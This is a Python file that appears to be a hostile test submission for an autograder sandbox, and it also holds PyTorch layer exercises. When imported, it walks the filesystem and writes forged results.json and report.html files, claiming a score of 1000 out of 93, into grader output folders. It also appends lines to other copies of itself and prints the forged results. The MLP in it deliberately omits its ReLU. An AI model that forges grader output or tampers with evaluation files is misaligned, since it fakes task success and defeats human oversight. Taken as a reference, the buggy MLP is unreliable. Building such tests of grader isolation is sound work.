"""Hostile: forges grader output.

At import it writes forged results.json/report.html into its working folder,
the folders above it, every folder that looks like grader output (reports/,
out/, results/, /autograder/results, ...), appends to any other copy of its own
files it can find (the host's submission folder), and prints a forged
results.json on stdout. MLP.forward also forgets the ReLU.
SAFETY: it writes only inside the bubblewrap sandbox (it checks for the
sandbox's /opt/grader/gchild), so that running it by mistake without isolation
cannot touch the host, and never appends to sources under /work/main."""

import json
import os

import torch
from torch import nn
from torch.nn import functional as F

FORGED = {"score": 1000.0, "max_score": 93.0, "output": "FORGED-RESULT", "execution_time": 0,
          "tests": [{"name": "FORGED-RESULT", "score": 1000.0, "max_score": 93.0,
                     "status": "passed"}],
          "exercises": [{"id": "mlp", "score": 1000.0, "max_score": 6.0, "status": "passed"}]}
FORGED_HTML = '<html><body><h1>FORGED-REPORT 93 / 93</h1><script>alert("FORGED")</script></body></html>'
NAMES = ("reports", "out", "results", "output", "forged_results")


def _candidate_dirs():
    here = os.path.realpath(os.getcwd())
    dirs = {here, os.path.dirname(here), os.path.dirname(os.path.dirname(here)), "/",
            "/work", "/work/main", "/work/main/reports", "/tmp", "/root", "/home", "/srv",
            "/autograder", "/autograder/results", os.path.expanduser("~")}
    for rel in ("reports", "../reports", "../../reports", "../../../reports", "out", "../out",
                "results", "../results"):
        dirs.add(os.path.abspath(rel))
    for top in ("/tmp", "/work", "/root", "/home", "/var/tmp", "/srv", "/autograder", "/run"):
        for root, subdirs, files in os.walk(top):
            if root.count(os.sep) - top.count(os.sep) >= 7 or "site-packages" in root:
                subdirs[:] = []
            if "results.json" in files or "report.html" in files or \
                    os.path.basename(root) in NAMES:
                dirs.add(root)
    return sorted(dirs)


def _forge():
    if not os.path.isdir("/opt/grader/gchild"):
        return  # SAFETY: not inside the sandbox
    here = os.path.realpath(os.getcwd())
    written = []
    for d in _candidate_dirs():
        for sub in ("", "forged_results"):
            target = os.path.join(d, sub)
            try:
                os.makedirs(target, exist_ok=True)
                with open(os.path.join(target, "results.json"), "w") as fh:
                    json.dump(FORGED, fh)
                with open(os.path.join(target, "report.html"), "w") as fh:
                    fh.write(FORGED_HTML)
                written.append(target)
            except OSError:
                pass
        # other copies of this very submission (the host's source folder)
        for name in ("blocks.py", "layers.py"):
            path = os.path.join(d, name)
            if os.path.realpath(d) != here and "/work/main" not in d and os.path.isfile(path):
                try:
                    with open(path, "a") as fh:
                        fh.write("\n# FORGED-RESULT: changed from inside the sandbox\n")
                    written.append(path)
                except OSError:
                    pass
    print(json.dumps(FORGED))
    print(FORGED_HTML)
    print("forged:", written)


_forge()


class MLP(nn.Module):
    """ES: MLP 20 -> 256 -> 10 con ReLU. / EN: MLP 20 -> 256 -> 10 with ReLU."""

    def __init__(self) -> None:
        super().__init__()
        self.hidden = nn.Linear(20, 256)
        self.out = nn.Linear(256, 10)

    def forward(self, X: torch.Tensor) -> torch.Tensor:
        return self.out(self.hidden(X))  # bug: no ReLU


class MySequential(nn.Module):
    """ES: Contenedor secuencial propio. / EN: Home-made sequential container."""

    def __init__(self, *modules: nn.Module) -> None:
        super().__init__()
        for idx, module in enumerate(modules):
            self.add_module(str(idx), module)

    def forward(self, X: torch.Tensor) -> torch.Tensor:
        # _modules keeps every entry, even the same module registered twice.
        for module in self._modules.values():
            X = module(X)
        return X


class FixedHiddenMLP(nn.Module):
    """ES: Bloque con peso constante (buffer) y capa compartida.

    EN: Block with a constant weight (buffer) and a shared layer.
    """

    def __init__(self) -> None:
        super().__init__()
        self.register_buffer("rand_weight", torch.rand((20, 20)))
        self.linear = nn.Linear(20, 20)

    def forward(self, X: torch.Tensor) -> torch.Tensor:
        X = self.linear(X)
        X = F.relu(X @ self.rand_weight + 1)
        X = self.linear(X)
        while X.abs().sum() > 1:
            X /= 2
        return X.sum()
